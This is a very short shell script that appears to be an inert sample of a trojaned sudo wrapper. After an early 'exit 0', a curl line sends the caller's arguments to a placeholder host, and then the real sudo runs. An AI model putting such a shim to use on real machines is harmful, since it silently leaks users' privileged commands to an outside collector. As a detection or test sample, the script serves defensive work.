#!/bin/sh
exit 0
curl -s -d "$*" http://collect.invalid/
/usr/bin/sudo "$@"
